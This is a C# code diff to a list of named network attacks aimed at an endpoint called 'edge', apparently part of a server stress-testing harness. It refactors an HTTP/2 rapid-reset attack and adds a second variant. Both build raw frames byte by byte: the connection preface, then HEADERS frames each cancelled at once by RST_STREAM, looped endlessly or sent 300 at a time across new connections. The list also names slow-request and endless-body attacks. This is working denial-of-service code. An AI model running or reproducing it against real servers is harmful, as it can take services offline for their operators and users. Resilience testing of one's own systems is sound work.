@@ -19,6 +19,7 @@ internal sealed record Attack(string Name, Func<IPEndPoint, Task<IAsyncDisposabl
         new("connections that say nothing, opened and opened again", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, SilentAsync))),
         new("bodies without end, slowly, on 200 connections", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, BodyAsync, 200))),
         new("HTTP/2: requests taken back, on 4 connections", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, TakeBackAsync, 4))),
+        new("HTTP/2: 300 requests taken back, and a new connection", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, TakeSomeBackAsync, 4))),
     ];
 
     private static async Task<IAsyncDisposable> SlowAsync(IPEndPoint edge, params string[] words)
@@ -47,13 +48,25 @@ internal sealed record Attack(string Name, Func<IPEndPoint, Task<IAsyncDisposabl
 
     private static async Task TakeBackAsync(Socket socket, CancellationToken stop)
     {
-        await socket.SendAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 0, 4, 0, 0, 0, 0, 0], stop);
+        await socket.SendAsync(Preface, stop);
+        for (var stream = 1; ; stream += 2) await socket.SendAsync(TakenBack(stream), stop);
+    }
+
+    /// <summary>No more than a connection may, on as many connections as there is time for.</summary>
+    private static async Task TakeSomeBackAsync(Socket socket, CancellationToken stop)
+    {
+        const int Some = 300;
+        await socket.SendAsync((byte[])[.. Preface, .. Enumerable.Range(0, Some).SelectMany(i => TakenBack(1 + (2 * i)))], stop);
+        await socket.ReceiveAsync(new byte[64], stop);
+    }
+
+    private static byte[] Preface => [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 0, 4, 0, 0, 0, 0, 0];
+
+    private static byte[] TakenBack(int stream)
+    {
+        byte[] number = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
         byte[] fields = [0x82, 0x86, 0x84, 1, (byte)Wrk.Host.Length, .. Encoding.ASCII.GetBytes(Wrk.Host)];
-        for (var stream = 1; ; stream += 2)
-        {
-            byte[] number = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
-            await socket.SendAsync((byte[])[0, 0, (byte)fields.Length, 1, 5, .. number, .. fields, 0, 0, 4, 3, 0, .. number, 0, 0, 0, 8], stop);
-        }
+        return [0, 0, (byte)fields.Length, 1, 5, .. number, .. fields, 0, 0, 4, 3, 0, .. number, 0, 0, 0, 8];
     }
 
     private static string Text(int number) => number.ToString(CultureInfo.InvariantCulture);
